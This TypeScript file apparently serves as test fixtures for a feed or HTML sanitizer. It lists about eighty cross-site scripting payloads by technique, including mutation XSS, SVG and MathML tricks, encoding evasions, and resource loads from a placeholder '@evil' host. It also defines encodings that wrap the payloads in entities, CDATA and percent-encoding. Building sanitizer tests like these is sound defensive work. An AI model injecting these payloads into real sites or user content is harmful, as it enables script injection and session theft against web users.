/** Markup that runs a script if it is parsed as HTML, by technique. `@` is replaced by a number. */
export const PAYLOADS: Record<string, string> = {
  'a script': '<script>pwned(@)</script>',
  'a script in mixed case with white space': '<ScRiPt \n>pwned(@)</sCrIpT\t>',
  'a cross-origin script': '<script src="@evil"></script>',
  'a module': '<script type=module>pwned(@)</script>',
  'a script within a script': '<scr<script>ipt>pwned(@)</scr</script>ipt>',
  'an unclosed script': '<script>pwned(@)//',
  'a script with a slash in the tag': '<script/x>pwned(@)</script>',
  'an image that fails': '<img src=x onerror=pwned(@)>',
  'an image with slashes instead of spaces': '<img/src=x/onerror=pwned(@)>',
  'an image with a handler in backticks': '<img src=`x` onerror=`pwned(@)`>',
  'an image with an unclosed tag': '<img src=x onerror=pwned(@) ',
  'an image after an invalid comment': '<!--><img src=x onerror=pwned(@)>-->',
  'an image after a bogus comment': '<?x ><img src=x onerror=pwned(@)>',
  'an image after an end tag with an attribute': '</p x="><img src=x onerror=pwned(@)>">',
  'an image in srcset': '<img srcset="x 1x" onerror=pwned(@)>',
  'a handler that ends a double-quoted attribute': '"><img src=x onerror="pwned(@)',
  'a handler that ends a single-quoted attribute': "' autofocus onfocus='pwned(@)",
  'a handler that ends an unquoted attribute': 'x onpointerover=pwned(@) y',
  'a handler on the body': '<body onload=pwned(@)>',
  'a handler of focus': '<input autofocus onfocus=pwned(@)>',
  'a handler of an animation':
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=pwned(@)>x</b>',
  'a handler of toggle': '<details open ontoggle=pwned(@)><summary>x</summary></details>',
  'a popover': '<button popovertarget=x>x</button><b popover id=x onbeforetoggle=pwned(@)>x</b>',
  'a video': '<video><source onerror=pwned(@)></video>',
  audio: '<audio src=x onerror=pwned(@) controls></audio>',
  'a marquee': '<marquee onstart=pwned(@)>x</marquee>',
  'an SVG with a load handler': '<svg onload=pwned(@)>',
  'a script in SVG': '<svg><script>pwned(@)</script></svg>',
  'a script in SVG by reference': '<svg><script href="data:text/javascript,pwned(@)" /></svg>',
  'an animated link in SVG':
    '<svg><a><animate attributeName=href values=javascript:pwned(@) /><text y=9>x</text></a></svg>',
  'SVG by use': '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(@)/>#x"/></svg>',
  'HTML in SVG': '<svg><foreignObject><img src=x onerror=pwned(@)></foreignObject></svg>',
  'HTML after a style in SVG': '<svg></p><style><a id="</style><img src=x onerror=pwned(@)>">',
  'HTML in a title in SVG': '<svg><title><img src=x onerror=pwned(@)></title></svg>',
  'MathML with a link': '<math href="javascript:pwned(@)">x</math>',
  'mutation by MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned(@)&gt;">',
  'mutation by nested forms':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(@)>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=pwned(@)>">',
  'mutation by a template': '<template><s></template></s><img src=x onerror=pwned(@)>',
  'mutation by plaintext': '<x><plaintext><img src=x onerror=pwned(@)>',
  'mutation by textarea': '<textarea></textarea x><img src=x onerror=pwned(@)>',
  'mutation by title': '<title><a title="</title><img src=x onerror=pwned(@)>">',
  'mutation by select': '<select><style></select><img src=x onerror=pwned(@)></style>',
  'mutation by CDATA': '<svg><![CDATA[><img src=x onerror=pwned(@)>]]>',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=pwned(@)>">',
  'a declarative shadow tree':
    '<div><template shadowrootmode=open><img src=x onerror=pwned(@)></template></div>',
  'a frame': '<iframe src="javascript:parent.pwned(@)"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>parent.pwned(@)</script>"></iframe>',
  'a cross-origin frame': '<iframe src="@evil"></iframe>',
  'an object': '<object data="javascript:pwned(@)"></object>',
  'an embed': '<embed src="javascript:pwned(@)">',
  'a link with a label': '<a id=x href="javascript:pwned(@)">x</a><label for=x>x</label>',
  'a form': '<form action="javascript:pwned(@)"><button autofocus>x</button></form>',
  'a button with formaction': '<form id=f></form><button form=f formaction="javascript:pwned(@)">x</button>',
  'a refresh': '<meta http-equiv=refresh content="0;url=javascript:pwned(@)">',
  'a Content Security Policy': '<meta http-equiv=Content-Security-Policy content="script-src *">',
  'a base': '<base href="@evil">',
  'a style sheet': '<link rel=stylesheet href="@evil" onload=pwned(@)>',
  'a preload': '<link rel=preload as=image href="@evil" onload=pwned(@)>',
  'a style': '<style>*{background:url(@evil)}</style>',
  'a style with an import': '<style>@import "@evil";</style>',
  'a style attribute': '<p style="background:url(@evil);position:fixed;inset:0">x</p>',
  'an import map': '<script type=importmap>{"imports":{"lit":"@evil"}}</script>',
  'a slot': '<slot name=heading onslotchange=pwned(@)></slot>',
  'a nested block': '<related-posts src="@evil" loading=eager></related-posts>',
  'DOM clobbering': '<a id=pwned></a><form name=document><input name=location></form>',
  'an expression of a template engine': '{{constructor.constructor("pwned(@)")()}}',
  'an expression of a template literal': '\u0024{pwned(@)}`;pwned(@)//',
  'a marker of Lit': '<!--?lit$1$--><?lit$2$><b $lit$="\u0024{pwned(@)}">',
  'a script in UTF-7': '+ADw-script+AD4-pwned(@)+ADw-/script+AD4-',
  'a script in overlong UTF-8, read byte by byte': 'À¼scriptÀ¾pwned(@)À¼/scriptÀ¾',
  'a script in full-width characters': '＜script＞pwned(@)＜/script＞',
  'a script with null characters': '<scr\0ipt>pwned(@)</scr\0ipt><img src=x o\0nerror=pwned(@)>',
  'a script after a null character': '\0<script>pwned(@)</script>',
  'a script in a JSON string': '"}]}</script><script>pwned(@)</script>',
  'a script between escape sequences': '\u001B$B<script>pwned(@)</script>\u001B(B',
  'an end tag first': '</a></h3></li></ul></section><script>pwned(@)</script>',
  'a shortcode': '[html]<script>pwned(@)</script>[/html]',
  'letters that case-fold to ASCII': '<ſcript>pwned(@)</ſcript><ımg src=x onerror=pwned(@)>',
  'characters that case mapping makes longer than before': '<img src=x title="İİİİ" onerror=pwned(@)>',
};

/** The ways to encode text in a feed. */
export const ENCODINGS: Record<string, (text: string) => string> = {
  unencoded: (text) => text,
  'as entities': entities,
  'as entities, twice': (text) => entities(entities(text)),
  'in CDATA': (text) => `<![CDATA[${text}]]>`,
  'as numeric character references': (text) => numbers(text, (code) => `&#${code};`),
  'as hexadecimal character references with zeros and without semicolons': (text) =>
    numbers(text, (code) => `&#x${code.toString(16).padStart(7, '0')}`),
  'percent-encoded': (text) => encodeURIComponent(text),
  'in a paragraph': (text) => `<p title="x">${text}</p>`,
  'after a comment': (text) => `<!-- ${text} -->${text}`,
};

function entities(text: string): string {
  return text.replace(/[&<>"']/g, (character) => `&${NAMES[character]};`);
}

const NAMES: Record<string, string> = { '&': 'amp', '<': 'lt', '>': 'gt', '"': 'quot', "'": 'apos' };

function numbers(text: string, write: (code: number) => string): string {
  return [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');
}
